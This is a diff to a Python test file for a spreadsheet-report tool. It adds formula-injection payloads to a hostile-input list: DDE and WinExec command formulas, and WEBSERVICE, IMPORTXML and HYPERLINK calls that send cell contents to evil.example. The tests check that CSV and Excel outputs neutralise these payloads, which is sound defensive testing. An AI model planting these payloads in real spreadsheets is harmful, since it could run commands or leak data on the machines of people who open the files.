@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 from report_fixture import KANG
 from written import OFFICE, books, parts, week
 
+from salessheets.archive import Archive
 from salessheets.settings import Brand, Staff
 from salessheets.write.report import Report
 from salessheets.write.settings_book import write_settings
@@ -24,6 +25,11 @@ HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点这里")', '=HYPERLINK("#概览!A1","x")', "=cmd|' /C calc'!A0",
     '=DDE("cmd","/C calc","x")', '=WEBSERVICE("http://evil.example")', "='file:///c:/x.xlsx'#$A.A1", "=2+5+cmd|' /C calc'!A0",
     "http://evil.example/a", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "internal:概览!A1",
+    *(f"{blank}=1+1" for blank in ("  ", "\u3000", "\u00a0", "\ufeff", "\u200b", "\t ", "\r\n")), '=1+1",=1+1,"', "'=1+1", '"=1+1"',
+    "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")', "=SERVICE.X()", '=CALL("Kernel32","WinExec","JCJ","calc",0)',
+    '=REGISTER.ID("Kernel32","WinExec")', '=IMAGE("http://evil.example/a.png")', '=_xlfn.WEBSERVICE("http://evil.example")',
+    '=DISPIMG("ID_1",1)', '\uff1dHYPERLINK("http://evil.example","点")', "\uff20SUM(A1)", "\uff0b1+cmd|' /C calc'!A0", "\uff0d1",
     "external:c:\\x.xlsx", "file:///c:/x.xlsx", "\\\\evil\\share", "<script>alert(1)</script>", "]]><f>1+1</f>", "&amp;=1",
 ]  # fmt: skip
 LEAD_TEXT = [
@@ -152,3 +158,88 @@ def test_a_brand_with_an_ampersand_cannot_write_into_the_footer():
     xml = parts(books(week().__class__(**{**vars(week()), "settings": office}))["9号&F牌"])["xl/worksheets/sheet1.xml"]
     footer = unescaped(re.findall(r"<oddFooter>(.*?)</oddFooter>", xml)[0])
     assert footer.startswith('&L&"微软雅黑"&9 9号&&F牌 2026-W47&R')
+
+
+# --- CSV ------------------------------------------------------------------------------------------------------------
+
+
+def first_sign(cell: str) -> str:
+    """What Excel sees first: blanks and invisible signs do not count, full width is half width."""
+    import unicodedata
+
+    text = re.sub(r"^[\s\u200b-\u200d\u2060\ufeff\u00ad]+", "", unicodedata.normalize("NFKC", cell))
+    return "\t" if cell[:1] in ("\t", "\r", "\n") else text[:1]
+
+
+def cells_of(data: bytes) -> list[str]:
+    import csv
+
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+
+
+def test_no_cell_of_a_csv_starts_a_formula():
+    """名录池 and trace hold every hostile text, each with an apostrophe before it."""
+    from salessheets.publish import _pool_csv
+
+    made = poisoned()
+    made = replace(made, closed=with_every_text(made.leads, LEAD_TEXT).assign(brand=KANG))
+    cells = cells_of(_pool_csv(made, KANG))
+    dangerous = {text for text in HOSTILE if first_sign(text) in ("=", "+", "-", "@", "\t")}
+    assert dangerous <= {cell.removeprefix("'") for cell in cells}
+    assert [cell for cell in cells if first_sign(cell) in ("=", "+", "-", "@", "\t")] == []
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "'", "''=1", "", "普通", "2026-11-20", "a=b", "-"])
+def test_what_was_made_harmless_can_be_read_back(text):
+    from salessheets.csvtext import harmless, original
+
+    assert original(harmless(text)) == text
+    assert first_sign(harmless(text)) not in ("=", "+", "-", "@", "\t")
+
+
+def test_from_the_hand_in_to_every_file_nothing_comes_alive(tmp_path):
+    """Every hostile text in every text column of a real hand-in, as folder, file and sheet name too, through two runs."""
+    import csv
+    from datetime import date
+
+    from salessheets import settings as office_settings
+    from salessheets.office import Office
+    from salessheets.summary import write_trace
+    from salessheets.week import trace, weekly
+
+    office = Office(tmp_path / "办公室")
+    office.make()
+    settings = replace(office_settings.default(), brands=(Brand("康泰"),), staff=(Staff("陈静"),))
+    office.settings.write_bytes(write_settings(settings))
+    header = [
+        "咨询日期",
+        "咨询渠道",
+        "客户姓名",
+        "联系电话",
+        "微信号",
+        "单位名称",
+        "意向品牌",
+        "咨询内容",
+        "备注",
+        "自己的列",
+    ]
+    for folder in ("陈静", "=1+1", "@SUM(A1)", "+cmd"):
+        (office.inbox / folder).mkdir()
+        with (office.inbox / folder / "=cmd.csv").open("w", encoding="utf-8-sig", newline="") as out:
+            rows = csv.writer(out)
+            rows.writerow(header)
+            for at, text in enumerate(HOSTILE):
+                contact = text if at % 3 == 0 else f"1367777{at:04d}"
+                brand = "康泰" if at % 2 else text
+                rows.writerow(["2026-11-10", text, text, contact, text, text, brand, *[text] * 3])
+    weekly(office, day=date(2026, 11, 13))
+    weekly(office, day=date(2026, 11, 20))
+    write_trace(trace(office), office.root / "去向.csv")
+    books = [path for folder in (office.reports, office.returns) for path in folder.rglob("*.xlsx")]
+    assert len(books) > 4
+    assert {path.name: live(path.read_bytes()) for path in books} == {path.name: [] for path in books}
+    tables = [office.root / "去向.csv", *office.archive.glob("*.csv"), *office.reports.rglob("*.csv")]
+    assert len(tables) >= 3
+    for path in tables:
+        assert [c for c in cells_of(path.read_bytes()) if first_sign(c) in ("=", "+", "-", "@", "\t")] == [], path.name
+    assert {e.person for e in Archive.open(office).entries} >= {"陈静", "=1+1", "@SUM(A1)", "+cmd"}
